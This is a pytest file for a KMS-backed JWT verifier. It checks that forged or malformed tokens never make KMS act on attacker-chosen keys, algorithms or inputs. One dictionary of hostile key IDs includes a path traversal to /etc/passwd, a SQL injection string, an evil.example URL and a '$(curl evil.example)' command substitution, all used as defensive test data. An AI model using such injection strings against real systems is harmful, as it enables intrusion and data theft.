"""What a stranger's token can make KMS be asked: nothing of the stranger's choosing."""

from __future__ import annotations

import json
from hashlib import sha256
from typing import TYPE_CHECKING, Any

import pytest
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from tests.kms import support
from tests.kms.support import Through, b64, header_of, issued, make_key, unb64

from kmsjwt import ConfigError, TokenError, Verifier
from kmsjwt.errors import UnknownKey
from kmsjwt.jwks import StaticKeys
from kmsjwt.keys import KeySet, PublicKey
from kmsjwt.kms import KmsKeys, KmsVerify

if TYPE_CHECKING:
    from collections.abc import Mapping

    from kmsjwt.local import LocalKms

_FOREIGN_ARN = "arn:aws:kms:eu-central-1:666666666666:key/1234abcd-12ab-34cd-56ef-1234567890ab"
_KIDS = {
    "foreign-arn": _FOREIGN_ARN,
    "foreign-id": _FOREIGN_ARN.rpartition("/")[2],
    "alias": "alias/auth",
    "alias-arn": _FOREIGN_ARN.rpartition(":")[0] + ":alias/auth",
    "any": "arn:aws:kms:*:*:key/*",
    "path": "../../../../etc/passwd",
    "url": "https://evil.example/key.pem",
    "sql": "x' UNION SELECT 'k'--",
    "shell": "$(curl evil.example)",
    "empty": "",
    "nul": "\0",
    "long": "k" * 4000,
}


def _verifier(keys: Any, **settings: Any) -> Verifier:
    return Verifier(keys, issuer=support.ISS, audience=support.AUD, **settings)


def _renamed(token: str, **members: Any) -> str:
    """Write another header onto a token; its signature no longer fits, and need not."""
    header = json.dumps({**header_of(token), **members})
    return ".".join([b64(header.encode()), *token.split(".")[1:]])


@pytest.mark.parametrize("source", [KmsKeys, KmsVerify])
@pytest.mark.parametrize("name", _KIDS)
def test_no_kid_reaches_kms(
    name: str, source: Any, house: LocalKms, arns: Mapping[str, str]
) -> None:
    """A kid is looked up among configured keys. As a KMS KeyId it would let the token choose."""
    arn, wire = arns["ES256"], Through(house)
    verifier = support.verifier(source(arn, client=wire))

    for _ in range(5):
        with pytest.raises(UnknownKey):
            verifier.verify(_renamed(issued(arn, house), kid=_KIDS[name]))

    assert [(called, sent["KeyId"]) for called, sent in wire.calls] == [("get_public_key", arn)]


_NO_TOKENS: dict[str, Any] = {
    "none": None,
    "empty": "",
    "garbage": "garbage",
    "bearer": "Bearer a.b.c",
    "two-segments": "a.b",
    "jwe": "a.b.c.d.e",
    "bad-base64": "a.b.c",
    "megabytes": "a" * 2_000_000,
    "no-alg": f"{b64(b'{}')}.e30.AAAA",
    "crit": b64(b'{"alg":"ES256","crit":["x"]}') + ".e30.AAAA",
    "deep": b64(b"[" * 5000) + ".e30.AAAA",
}


@pytest.mark.parametrize("source", [KmsKeys, KmsVerify])
@pytest.mark.parametrize("name", _NO_TOKENS)
def test_kms_is_not_asked_about_what_is_no_token(
    name: str, source: Any, house: LocalKms, arns: Mapping[str, str]
) -> None:
    """Each call counts against a quota that the whole account shares, and costs money."""
    wire = Through(house)

    with pytest.raises(TokenError):
        support.verifier(source(arns["ES256"], client=wire)).verify(_NO_TOKENS[name])

    assert wire.calls == []


@pytest.mark.parametrize("alg", ["none", "HS256", "ES384", "RS256", "es256"])
def test_kms_is_not_asked_to_verify_another_algorithm(
    alg: str, house: LocalKms, arns: Mapping[str, str]
) -> None:
    wire = Through(house)
    token = _renamed(issued(arns["ES256"], house), alg=alg)

    with pytest.raises(TokenError) as caught:
        support.verifier(KmsVerify(arns["ES256"], client=wire)).verify(token)

    assert caught.value.code == "algorithm_not_allowed"
    assert wire.count("verify") == 0


@pytest.mark.parametrize("source", [KmsKeys, KmsVerify])
def test_another_customers_key_in_the_same_kms_signs_for_nobody_here(
    source: Any, house: LocalKms, arns: Mapping[str, str]
) -> None:
    """A good signature of the right service by the wrong customer, the fault of ALBeast."""
    arn, theirs = arns["ES256"], make_key(house, "ECC_NIST_P256")
    wire = Through(house)
    verifier = support.verifier(source(arn, client=wire))
    ours = issued(arn, house)
    token = issued(theirs, house)
    public = PublicKey.from_spki(house.get_public_key(KeyId=theirs)["PublicKey"], "ES256")
    assert support.verifier(StaticKeys(KeySet([public]))).verify(token).kid == public.kid

    for code, claimed in {
        "unknown_key": token,  # under its own kid
        "bad_signature": issued_as(header_of(ours)["kid"], theirs, house),
    }.items():
        with pytest.raises(TokenError) as caught:
            verifier.verify(claimed)
        assert caught.value.code == code
    assert verifier.verify(ours).kid == header_of(ours)["kid"]
    assert {sent["KeyId"] for _, sent in wire.calls} == {arn}


def issued_as(kid: str, key: str, kms: LocalKms) -> str:
    """Have ``key`` sign a token that says it is of another key."""
    signed = _renamed(issued(key, kms), kid=kid).rpartition(".")[0]
    answer = kms.sign(
        KeyId=key,
        Message=sha256(signed.encode()).digest(),
        MessageType="DIGEST",
        SigningAlgorithm="ECDSA_SHA_256",
    )
    r, s = decode_dss_signature(answer["Signature"])
    return f"{signed}.{b64(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def test_the_helper_above_makes_good_signatures(house: LocalKms, arns: Mapping[str, str]) -> None:
    arn = arns["ES256"]
    kid = header_of(issued(arn, house))["kid"]

    verified = support.verifier(KmsKeys(arn, client=house)).verify(issued_as(kid, arn, house))

    assert verified.kid == kid


@pytest.mark.parametrize("source", [KmsKeys, KmsVerify])
def test_a_flood_of_forged_tokens_costs_one_fetch(
    source: Any, house: LocalKms, arns: Mapping[str, str]
) -> None:
    """Unknown kids cost nothing; with KmsVerify a forged signature does, which its page says."""
    arn, wire = arns["ES256"], Through(house)
    verifier = support.verifier(source(arn, client=wire))
    token = issued(arn, house)
    for n in range(200):
        forged = _renamed(token, kid=f"key-{n}")
        with pytest.raises(UnknownKey):
            verifier.verify(forged)

    assert len(wire.calls) == 1


def test_asking_kms_each_time_and_remembering_exclude_each_other(
    house: LocalKms, arns: Mapping[str, str]
) -> None:
    """Whoever wants every verification in CloudTrail wants none of them left out."""
    _verifier(KmsVerify(arns["ES256"], client=house), cache_size=0)
    with pytest.raises(ConfigError) as caught:
        _verifier(KmsVerify(arns["ES256"], client=house), cache_size=1)

    assert "cache_size" in str(caught.value)
    assert "KmsVerify" in str(caught.value)


def test_a_signature_that_verifies_under_no_other_input(
    house: LocalKms, arns: Mapping[str, str]
) -> None:
    """What is sent to KMS Verify is the token's own header and payload, not their meaning."""
    token = issued(arns["ES256"], house)
    respelt = ".".join(
        [b64(b" " + unb64(token.split(".")[0])), *token.split(".")[1:]],
    )

    with pytest.raises(TokenError) as caught:
        support.verifier(KmsVerify(arns["ES256"], client=house)).verify(respelt)
    assert caught.value.code == "bad_signature"
